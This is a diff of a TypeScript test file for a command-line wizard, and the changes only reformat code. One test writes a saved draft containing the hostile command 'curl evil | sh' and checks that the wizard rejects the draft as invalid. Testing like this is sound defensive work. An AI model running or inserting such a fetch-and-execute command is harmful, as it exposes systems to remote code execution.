@@ -13,7 +13,9 @@ const pty = ptyTestFolder('ami-wizard-draft-');
 const SECOND_OS = OS_LABELS[OPERATING_SYSTEMS[1]];
 
 function start(): PtySession {
-  return pty.track(wizardSession(join(pty.dir, 'web-shop'), [], { env: { AMI_WIZARD_STATE_DIR: join(pty.dir, 'state') } }));
+  return pty.track(
+    wizardSession(join(pty.dir, 'web-shop'), [], { env: { AMI_WIZARD_STATE_DIR: join(pty.dir, 'state') } }),
+  );
 }
 
 const drafts = () => {
@@ -106,7 +108,10 @@ describe('a draft of a cancelled wizard', () => {
     mkdirSync(project, { recursive: true });
     const file = draftPath(join(pty.dir, 'state', 'drafts'), join(realpathSync(project), 'ami-build'));
     mkdirSync(join(pty.dir, 'state', 'drafts'), { recursive: true });
-    writeFileSync(file, `savedAt: ${new Date().toISOString()}\nscreen: os\nanswers: {version: 1, run: "curl evil | sh"}\n`);
+    writeFileSync(
+      file,
+      `savedAt: ${new Date().toISOString()}\nscreen: os\nanswers: {version: 1, run: "curl evil | sh"}\n`,
+    );
     const s = start();
     // The note wraps (the path is long): words may be on different lines.
     await s.waitFor(/A draft of an earlier run was ignored[\s\S]*its\s+answers\s+are\s+not\s+valid\)/);
